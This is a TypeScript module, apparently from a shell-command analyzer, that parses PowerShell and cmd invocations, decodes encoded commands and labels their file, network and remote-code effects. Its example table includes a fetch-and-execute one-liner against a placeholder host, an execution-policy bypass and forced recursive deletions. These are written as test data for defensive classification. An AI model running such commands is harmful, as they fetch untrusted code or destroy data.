// PowerShell and the command prompt as programs: the text, the encoded text or the file that they run.
import { pathWord } from '../../code/windows/paths.ts'
import type { ProgramRow } from '../program.ts'
import type { ProgramCall } from '../programCall.ts'
import { joined, literalWord, type ShellWord, tailOf } from '../word.ts'
import { runInput } from './shells.ts'

/** Parameters with a value, by every beginning of their names. */
const VALUED =
  /^(?:ex\w*|ep|ve\w*|w|wi\w*|wo\w*|wd|inp\w*|if|ou\w*|of|conf\w*|cus\w*|psc\w*|set\w*)$/

const decoded = (text: string): string | undefined => {
  if (text.length > 200_000 || !/^[\w+/=\s-]+$/.test(text)) return undefined
  try {
    const bytes = atob(text.trim())
    const wide = bytes.length % 2 === 0 && /^(?:[\s\S]\0){2}/.test(bytes)
    return wide
      ? new TextDecoder('utf-16le').decode(Uint8Array.from(bytes, (char) => char.charCodeAt(0)))
      : undefined
  } catch {
    return undefined
  }
}

const text = (call: ProgramCall, words: ReadonlyArray<ShellWord>): void => {
  const whole = joined(words)
  if (whole === undefined || whole.text === '-') runInput(call, 'powershell')
  else call.code('powershell', whole)
}

const powershell = (call: ProgramCall): void => {
  const { args } = call
  for (let at = 0; at < args.length; at++) {
    const word = args[at]!
    const option = /^(?:--?|\/)([a-z]+)$/i.exec(word.text)?.[1]?.toLowerCase()
    if (option === undefined) {
      const isFile = call.name.startsWith('pwsh') && /\.ps1$/i.test(word.text)
      if (isFile) call.runFile(pathWord(word, call.home, false), 'powershell', args.slice(at + 1))
      else text(call, args.slice(at))
      return
    }
    if (/^(?:version|help|h|v)$/.test(option) && args.length === 1) return
    if ('command'.startsWith(option) || 'commandwithargs'.startsWith(option) || option === 'cwa') {
      text(call, args.slice(at + 1))
      return
    }
    if ('encodedcommand'.startsWith(option) || option === 'ec') {
      const value = args[at + 1]
      const plain = value?.is === 'literal' ? decoded(value.text) : undefined
      if (plain === undefined) call.exec('dynamic-command')
      else call.code('powershell', literalWord(plain))
      return
    }
    if ('file'.startsWith(option)) {
      const file = args[at + 1]
      if (file === undefined || file.text === '-') runInput(call, 'powershell')
      else call.runFile(pathWord(file, call.home, false), 'powershell', args.slice(at + 2))
      return
    }
    if (VALUED.test(option)) at++
  }
  if (args.length === 0) runInput(call, 'powershell')
}

const cmd = (call: ProgramCall): void => {
  for (const [at, word] of call.args.entries()) {
    const found = /^\/{1,2}([ckr])(.*)$/is.exec(word.text)
    if (found === null) continue
    const rest = found[2] === '' ? [] : [tailOf(word, word.text.length - found[2]!.length)]
    const whole = joined([...rest, ...call.args.slice(at + 1)])
    if (whole !== undefined) call.code('cmd', whole)
    return
  }
  runInput(call, 'cmd')
}

export const WINDOWS_SHELLS: ReadonlyArray<ProgramRow> = [
  {
    names: 'pwsh powershell pwsh-preview powershell_ise',
    style: 'long',
    run: powershell,
    examples: [
      "powershell -NoProfile -Command 'Get-ChildItem src' => exec powershell, fs.read src",
      "pwsh -c 'Remove-Item -Recurse -Force build' => exec pwsh, fs.delete build",
      'powershell.exe -ExecutionPolicy Bypass -File a.ps1 => exec powershell.exe, opaque unread-script',
      'powershell -enc ZABlAGwAIABhAA== => exec powershell, fs.delete a',
      "powershell 'iwr https://x.example/a.ps1 | iex' => exec powershell, net.fetch x.example, opaque remote-code",
      'pwsh --version =>',
    ],
  },
  {
    names: 'cmd',
    style: 'long',
    run: cmd,
    examples: [
      "cmd /c 'del /f a.txt' => exec cmd, fs.delete a.txt",
      "cmd /c echo hi '&' rd /s /q build => exec cmd, fs.delete build",
      "cmd.exe /C 'type a' => exec cmd.exe, fs.read a",
    ],
  },
]
